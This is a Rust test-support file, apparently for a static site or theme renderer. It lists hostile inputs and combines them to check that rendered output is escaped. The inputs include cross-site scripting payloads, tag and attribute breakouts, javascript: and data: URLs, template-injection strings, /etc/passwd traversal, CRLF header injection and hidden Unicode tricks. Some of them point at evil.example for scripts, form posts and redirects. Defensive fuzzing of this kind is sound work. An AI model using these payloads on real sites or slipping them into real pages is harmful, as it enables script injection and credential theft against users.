//! What somebody might try: words by hand, a list of others, and words put together from parts.

use serde_json::Value;

/// What somebody might try. Each is tried in every field by itself, and all of them together.
pub const HOSTILE: &[&str] = &[
    // Elements.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=p type=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Ends of what the theme has opened.
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></select></option></pre></code></td></table></main></body><b>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--",
    "<!--symbols-->",
    "<![CDATA[",
    "<?php echo 1 ?>",
    "<%= 7*7 %>",
    // Attributes.
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1) `",
    "x\" style=\"position:fixed;inset:0",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "/><script>alert(1)</script>",
    // Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    // Entities and encodings.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x6A;avascript:alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // What templates, styles and spreadsheets would act on.
    "{{ 7*7 }}",
    "{% raw %}",
    "{% include \"base.html\" %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "{{ __tera_context }}",
    "{{ page | safe }}",
    "[[device/device-1|<b onclick=alert(1)>x</b>]]",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "expression(alert(1)); url(javascript:alert(1))",
    // What cannot be seen.
    "a\u{202e}gpj.exe",
    "a\u{2066}b\u{2069}c",
    "\u{200f}a\u{200e}",
    "a\u{0}b\u{7}c\u{8}d",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{9b}31m",
    "a\u{2028}b\u{2029}c",
    "\u{feff}a",
    "\r\n\r\nSet-Cookie: x=1",
];

/// What Markdown could make of it; all of these stand in a text of their own.
pub const HOSTILE_MARKDOWN: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](vbscript:a)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](\\\\\\\\evil.example\\\\a)",
    "[x](file:///etc/passwd)",
    "[x](https://a:b@evil.example)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
    "[r]: javascript:alert(1)\n\n[x][r]",
    "[[x\" onclick=\"alert(1)]]",
    "[[term/term-1#\" onclick=\"alert(1)|y]]",
    "# <img src=x onerror=alert(1)> {#\"><script>}",
    "1. step {#x\" onclick=\"alert(1)}",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>` |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "<b>*a*</b>",
    "<div>\n\n*a*\n\n</div>",
    "`<script>`",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;",
    "~~<s onclick=x>~~",
];

/// All that Markdown may make, so that its elements are known as harmless ones.
pub const HARMLESS_MARKDOWN: &str = "\
Plain words, *leaning*, **bold**, ~~gone~~, `code`, [a page](https://example.com), [its title](https://example.com \"Title\"),\n\
[[term/term-1]] and [[term/term-1|a term]], <it@example.com>, ![a plan](files/plan.txt)  \nand a new line.\n\n\
# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six\n\n\
1. First. {#first}\n2. Second.\n\n   More of it.\n\n- a\n- b\n  - c\n\n- [ ] open\n- [x] done\n\n\
> Quoted.\n\n> [!NOTE]\n> Noted.\n\n> [!TIP]\n> A tip.\n\n> [!IMPORTANT]\n> Weighty.\n\n> [!WARNING]\n> Beware.\n\n> [!CAUTION]\n> Care.\n\n\
| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\nA note.[^n]\n\n[^n]: At the foot.\n\n---\n\n\
```\nplain\n```\n\n```sh\n# comment\necho \"$HOME\" | grep -v 'x' 12\n```\n\n```html\n<a href=\"x\">1</a>\n```\n\n\
Term `x` [not there](files/not-there.txt) and [refused](javascript:x) \u{202e}turned ![refused](https://example.com/x.png) [[nowhere]].\n\n5. Fifth.\n";

/// Ways out of what the theme has opened around a value.
const WAYS_OUT: &[&str] = &[
    "",
    "\">",
    "'>",
    "\" ",
    "' ",
    "` ",
    "-->",
    "]]>",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "</template>",
    "</select>",
    "\\\">",
    "\u{0}\">",
];

/// What could run, once out; each ends in a call that a browser would show.
const ACTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x\">",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<svg onload=alert(1)>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1) popovertarget=x onbeforetoggle=alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video><track src=x onerror=alert(1)></video>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<style onload=alert(1)>@import url(//evil.example);</style>",
    "<link rel=stylesheet href=data:,* onload=alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<form action=javascript:alert(1)><input type=submit autofocus>",
    "<marquee onstart=alert(1)>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<dialog open onclose=alert(1)>",
    "<x contenteditable autofocus onfocus=alert(1) tabindex=1 id=x>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "onmouseover=alert(1) style=position:fixed;inset:0",
    "javascript:alert(1)",
    "javascript://%0aalert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<https://evil.example/>",
];

/// Spellings that some reader or other undoes.
const SPELLINGS: &[fn(&str) -> String] = &[
    |plain| plain.to_owned(),
    |plain| plain.to_uppercase(),
    |plain| plain.replace('<', "&lt;").replace('>', "&gt;"),
    |plain| plain.replace('<', "&#60").replace('>', "&#x3e;"),
    |plain| plain.replace('<', "%3C").replace('>', "%3E"),
    |plain| plain.replace('<', "\\u003c").replace('>', "\\x3e"),
    |plain| plain.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |plain| plain.replace("script", "scr\tipt").replace(" on", "\u{c}on"),
    |plain| plain.replace("script", "scr\u{0}ipt").replace(' ', "/"),
    |plain| plain.replace('<', "<\u{200b}").replace("alert", "\\u0061lert"),
    |plain| plain.replace('<', "<<").replace('>', ">>"),
];

/// Returns every way out with everything that could run, in every spelling.
pub fn put_together() -> Vec<String> {
    let mut all = Vec::new();
    for spelling in SPELLINGS {
        for way in WAYS_OUT {
            all.extend(ACTS.iter().map(|act| spelling(&format!("{way}{act}"))));
        }
    }
    all
}

/// Returns strings that have broken other programs, those left out in which there is nothing to see.
pub fn naughty() -> Vec<String> {
    let list: Vec<Value> = serde_json::from_str(include_str!("../data/hostile/blns.json")).unwrap();
    let list = list.iter().filter_map(Value::as_str).map(str::to_owned);
    let list: Vec<String> = list.filter(|it| it.chars().any(char::is_alphanumeric)).collect();
    assert!(list.len() > 400);
    list
}
